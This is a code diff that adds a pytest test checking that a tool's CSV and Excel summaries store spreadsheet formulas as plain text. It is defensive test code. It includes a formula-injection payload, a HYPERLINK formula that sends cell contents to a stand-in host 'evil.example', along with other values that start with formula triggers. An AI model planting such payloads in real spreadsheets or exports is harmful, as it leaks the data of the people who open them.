@@ -210,3 +210,27 @@ def test_the_per_file_page_limit_is_the_dossier_limit():
     assert Settings().max_pages == MAX_PAGES == OcrSettings().max_pages == 400
     args = cli.build_parser().parse_args(["batch", "x", "-o", "y"])
     assert cli._settings(args).max_pages == MAX_PAGES
+
+
+# ---------------------------------------------------------------- spreadsheet formula injection
+
+
+def test_a_formula_in_a_name_or_key_is_text_in_both_summaries(tmp_path):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from verify.report.summary import SummaryRow, write_summary
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    rows = [SummaryRow("+cmd", evil, "error", error="@SUM(1+1)"), SummaryRow("a", "－1+2", "pass")]
+    write_summary(rows, tmp_path)
+    text = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
+    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
+    assert not [c for c in cells if c and c[0] in "=+-@＝＋－＠"], cells
+    assert "'" + evil in cells
+    sheet = load_workbook(tmp_path / "summary.xlsx").active
+    values = [c for r in sheet.iter_rows(min_row=2) for c in r]
+    assert all(c.data_type != "f" for c in values)
+    assert any(c.value == evil and c.data_type == "s" for c in values), "the name is kept, as text"
